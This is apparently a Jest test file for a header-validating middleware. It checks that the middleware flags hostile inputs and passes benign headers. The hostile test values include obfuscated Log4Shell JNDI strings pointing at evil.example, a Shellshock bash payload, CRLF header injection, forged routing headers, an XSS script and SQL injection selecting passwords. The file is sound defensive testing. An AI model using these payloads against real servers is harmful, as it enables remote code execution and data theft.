import * as fc from 'fast-check';
import { validateRequestHeaders } from '../../src/middleware';

const rulesOf = (headers: Record<string, string>) => validateRequestHeaders({ headers }).map(({ rule }) => rule);

describe('finds', () => {
  test.each<[string, Record<string, string>, string]>([
    ['a line break in a value', { 'X-A': 'b\r\nSet-Cookie: c' }, 'control-character'],
    ['a NUL in a value', { 'X-A': 'b\0' }, 'control-character'],
    ['a space in a name', { 'X A': 'b' }, 'illegal-name'],
    ['a line break in a name', { 'X-A\r\nB': 'c' }, 'illegal-name'],
    ['a header over 8 KB', { 'X-A': 'b'.repeat(8193) }, 'too-large'],
    ['a rewritten path', { 'X-Original-URL': '/admin' }, 'forged-routing'],
    ['a rewritten path', { 'X-Rewrite-URL': '/admin/../secret' }, 'forged-routing'],
    ['a host with a path', { 'X-Forwarded-Host': 'evil.example/path' }, 'forged-routing'],
    ['a host with a scheme', { 'X-Forwarded-Host': 'https://evil.example' }, 'forged-routing'],
    ['Log4Shell', { 'User-Agent': '${jndi:ldap://evil.example/a}' }, 'log4shell'],
    ['Log4Shell, in lower', { 'X-Api-Version': '${${lower:j}ndi:ldap://evil.example/a}' }, 'log4shell'],
    ['Log4Shell, letter by letter', { Referer: '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}' }, 'log4shell'],
    ['Log4Shell, by environment', { Cookie: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example}' }, 'log4shell'],
    ['Shellshock', { 'User-Agent': '() { :; }; /bin/bash -c "id"' }, 'shellshock'],
    ['a script', { Referer: 'https://a.example/?q=<script>alert(1)</script>' }, 'script-injection'],
    ['a union', { 'User-Agent': "' UNION ALL SELECT password FROM users --" }, 'sql-injection'],
    ['a tautology', { 'X-Forwarded-For': "127.0.0.1' OR '1'='1" }, 'sql-injection'],
  ])('%s', (_, headers, rule) => {
    expect(rulesOf(headers)).toContain(rule);
  });

  test('too many headers, and too much of them', () => {
    const many = Object.fromEntries(Array.from({ length: 101 }, (_, index) => [`x-${index}`, 'a']));
    expect(validateRequestHeaders({ headers: many })).toEqual([{ header: '*', rule: 'too-many' }]);
    const large = { 'x-a': 'a'.repeat(8000), 'x-b': 'b'.repeat(8000), 'x-c': 'c'.repeat(1000) };
    expect(validateRequestHeaders({ headers: large })).toEqual([{ header: '*', rule: 'too-large' }]);
  });

  test('two lengths, and two hosts', () => {
    expect(rulesOf({ 'Content-Length': '4', 'Transfer-Encoding': 'chunked' })).toEqual(['conflicting-length']);
    expect(validateRequestHeaders({ multiValueHeaders: { Host: ['a.example', 'b.example'] } })).toEqual([{ header: 'host', rule: 'repeated-host' }]);
  });

  test('nothing of a value in what it returns', () => {
    expect(JSON.stringify(validateRequestHeaders({ headers: { 'X-Token': 'hunter2\0' } }))).not.toContain('hunter2');
  });
});

describe('passes', () => {
  test.each<[string, Record<string, string>]>([
    ['Chrome', { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36', 'sec-ch-ua': '"Chromium";v="120", "Not:A-Brand";v="99"' }],
    ['Internet Explorer', { 'User-Agent': 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko' }],
    ['curl', { 'User-Agent': 'curl/8.5.0', 'Accept': '*/*' }],
    ['an SDK', { 'user-agent': 'aws-sdk-js/3.500.0 ua/2.0 os/linux#5.10 lang/js md/nodejs#20.11.0 api/s3#3.500.0' }],
    ['a crawler', { 'User-Agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
    ['monitoring', { 'User-Agent': 'Amazon-Route53-Health-Check-Service (ref 12345; report http://amzn.to/1vsZADi)' }],
    ['a JWT', { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_123' }],
    ['a cookie of base64', { Cookie: 'session=YWJj+/==; theme=dark' }],
    ['a User-Agent with Select', { 'User-Agent': 'SelectTime/1.0 (select union member)' }],
    ['proxies', { 'X-Forwarded-For': '203.0.113.7, 10.0.0.1', 'X-Forwarded-Host': 'api.example.com:443', 'Forwarded': 'for=192.0.2.60;proto=http;by=203.0.113.43' }],
    ['a search in the Referer', { Referer: "https://shop.example/?q=rock'n'roll+or+drop+shipping;page=2" }],
    ['a price', { 'X-Note': 'costs ${5}' }],
    ['a tab', { 'X-A': 'a\tb' }],
    ['no headers', {}],
  ])('%s', (_, headers) => {
    expect(validateRequestHeaders({ headers })).toEqual([]);
  });

  test('events without headers', () => {
    expect(validateRequestHeaders({ headers: null, multiValueHeaders: null })).toEqual([]);
  });
});

test('never throws, whatever comes', () => {
  fc.assert(fc.property(fc.dictionary(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' })), (headers) => {
    validateRequestHeaders({ headers });
  }), { numRuns: 2000 });
});

test.each(['${'.repeat(4000), '${lower:'.repeat(1000), "' or ".repeat(1600), '<'.repeat(8000), 'union '.repeat(1300), '${a:-'.repeat(1500) + '}'.repeat(500)])('takes little time on %#', (value) => {
  const started = performance.now();
  validateRequestHeaders({ headers: { 'User-Agent': value } });
  expect(performance.now() - started).toBeLessThan(100);
});
